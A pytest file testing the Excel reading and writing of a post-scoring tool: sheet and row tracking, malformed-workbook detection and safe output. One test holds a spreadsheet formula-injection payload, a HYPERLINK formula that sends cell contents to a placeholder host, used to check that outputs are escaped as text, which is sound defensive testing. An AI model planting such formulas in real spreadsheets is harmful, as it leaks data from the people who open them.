"""Excel workbooks in and out: every sheet (or --sheet) read with the sheet and row named,
outputs written as text cells that no spreadsheet runs as a formula. The .xls and .ods inputs:
tests/test_workbooks.py."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import DEMO_EXPORT, SMALL_LABELS, make_corpus

from kanalml.cli import main
from kanalml.errors import DataError
from kanalml.io import AtomicWriter, ExportReader, detect_format

openpyxl = pytest.importorskip("openpyxl")
pytest.importorskip("python_calamine")


def workbook(path: Path, sheets: dict[str, list[list[object]]],
             at: str = "A1") -> Path:
    """A workbook written with openpyxl (as Excel or LibreOffice would save one)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        start = sheet[at]
        for i, row in enumerate(rows):
            for j, value in enumerate(row):
                sheet.cell(row=start.row + i, column=start.column + j, value=value)
    book.save(path)
    return path


def read_all(path: Path, **options: object) -> pd.DataFrame:
    return pd.concat([chunk for chunk, _ in ExportReader([path], **options)],
                     ignore_index=True)


def demo_workbook(path: Path) -> Path:
    frame = pd.read_csv(DEMO_EXPORT, dtype=str)
    rows = [list(frame.columns), *frame.values.tolist()]
    return workbook(path, {"minggu 48": rows[:31], "minggu 49": [rows[0], *rows[31:]]})


def test_every_sheet_is_read_with_sheet_and_row_named(tmp_path) -> None:
    path = workbook(tmp_path / "posts.xlsx", {
        "Lembar1": [["id", "text", "views", "date", "ok"],
                    [48212, "halo dunia", 1500.0, dt.datetime(2026, 11, 2, 6, 30), True],
                    [None, None, None, None, None],  # an empty row: skipped
                    [48213, "kedua", 2.5, dt.date(2026, 11, 3), False]],
        "Lembar2": [["text", "id"], ["ketiga", "x1"]],
        "Kosong": []})
    assert detect_format(path).kind == "xlsx"
    frame = read_all(path)
    assert frame["text"].tolist() == ["halo dunia", "kedua", "ketiga"]
    assert frame["id"].tolist() == ["48212", "48213", "x1"]  # whole numbers without ".0"
    assert frame["views"].tolist()[:2] == ["1500", "2.5"]
    assert frame["date"].tolist()[:2] == ["2026-11-02T06:30:00", "2026-11-03"]
    assert frame["ok"].tolist()[:2] == ["True", "False"]
    assert frame["_file"].tolist() == [f"{path}[Lembar1]"] * 2 + [f"{path}[Lembar2]"]
    assert frame["_line"].tolist() == [2, 4, 2]  # the row numbers Excel shows
    only = read_all(path, sheet="Lembar2")
    assert only["text"].tolist() == ["ketiga"]
    with pytest.raises(DataError, match=r"no sheet 'Lembar3' \(sheets: Lembar1, Lembar2, Kosong\)"):
        read_all(path, sheet="Lembar3")


def test_a_table_placed_lower_and_to_the_right(tmp_path) -> None:
    path = workbook(tmp_path / "t.xlsx", {"S": [["judul", None, "text"], ["a", "b", "c"]]},
                    at="C3")
    frame = read_all(path)
    assert list(frame.columns[:3]) == ["judul", "column_D", "text"]
    assert frame["text"].tolist() == ["c"] and frame["_line"].tolist() == [4]


def test_authors_are_not_read(tmp_path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"S": [["text", "author_name"], ["halo", "budi"]]})
    assert "author_name" not in read_all(path).columns
    assert read_all(path, keep_authors=True)["author_name"].tolist() == ["budi"]


def test_zip_archives_and_broken_workbooks(tmp_path) -> None:
    archive = tmp_path / "exports.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("posts.csv", "text\nhalo\n")
    with pytest.raises(DataError, match="a zip archive: extract it first"):
        detect_format(archive)
    renamed = tmp_path / "posts.xlsx"
    renamed.write_bytes(archive.read_bytes())
    with pytest.raises(DataError, match=r"not a spreadsheet workbook .*xl/workbook\.xml"):
        detect_format(renamed)
    ole = tmp_path / "locked.xlsx"  # an OLE2 file (an encrypted workbook is one), not a zip
    ole.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    with pytest.raises(DataError, match="a corrupt OLE2 file"):  # its header is all zeros
        detect_format(ole)
    text = tmp_path / "posts2.xlsx"
    text.write_text("text\nhalo\n")
    with pytest.raises(DataError, match=r"not a spreadsheet workbook \(neither a zip archive"):
        detect_format(text)


def test_score_and_rank_an_excel_export(tmp_path, capsys) -> None:
    book = demo_workbook(tmp_path / "demo.xlsx")
    assert main(["score", str(book), "-o", str(tmp_path / "scored.csv"), "-q"]) == 0
    scored = pd.read_csv(tmp_path / "scored.csv")
    expected = pd.read_csv(DEMO_EXPORT)
    assert scored["text"].tolist() == expected["text"].tolist()
    assert scored["message_id"].tolist() == expected["message_id"].tolist()
    assert main(["rank", str(book), "--sheet", "minggu 49", "-o", str(tmp_path / "q.xlsx"),
                 "-q"]) == 0
    queue = pd.read_excel(tmp_path / "q.xlsx", engine="openpyxl")
    assert queue["rank"].tolist() == list(range(1, len(queue) + 1))
    assert all(s.startswith(f"{book}[minggu 49]:") or "/" in s for s in queue["source"])
    assert "zip archive" not in capsys.readouterr().err


def test_written_cells_are_text_never_formulas(tmp_path) -> None:
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    frame = pd.DataFrame({"text": [attack, "+62 812", "-5", "bel\x07l", "x" * 40_000],
                          "score": [0.5, 0.25, 1.0, 0.0, 0.1], "flagged": [True] * 5})
    out = tmp_path / "o.xlsx"
    with AtomicWriter(out) as writer:
        writer.write(frame.iloc[:2])
        writer.write(frame.iloc[2:])
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert values[0] == "'" + attack and values[1] == "'+62 812"
    assert values[2] == "-5"  # a plain number stays as written
    assert values[3] == "bel\ufffdl"  # a control character XLSX cannot hold
    assert len(values[4]) == 32_767 and values[4].endswith("…")
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [0.5, 0.25, 1.0, 0.0, 0.1]
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [True] * 5


def test_an_empty_output_keeps_its_header(tmp_path) -> None:
    out = tmp_path / "e.xlsx"
    with AtomicWriter(out) as writer:
        writer.write(pd.DataFrame({"rank": [], "text": []}))
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert rows == [("rank", "text")]


def test_train_on_a_workbook_and_bad_labels_name_sheet_and_row(tmp_path, capsys) -> None:
    texts, labels = make_corpus(2)
    rows = [["text", *SMALL_LABELS]] + [[t, *(labels[n][i] for n in SMALL_LABELS)]
                                        for i, t in enumerate(texts)]
    good = workbook(tmp_path / "latih.xlsx", {"data": rows})
    assert main(["train", str(good), "-o", str(tmp_path / "m"), "--folds", "3", "-q"]) == 0
    rows[3][1] = "mungkin"
    bad = workbook(tmp_path / "salah.xlsx", {"data": rows})
    assert main(["train", str(bad), "--labels", "radikalisme,promosi", "-o",
                 str(tmp_path / "m2"), "-q"]) == 1
    err = capsys.readouterr().err
    assert f"{bad}[data]:4: column 'radikalisme': 'mungkin' is not a 0/1 label" in err
    assert "Traceback" not in err and not (tmp_path / "m2").exists()
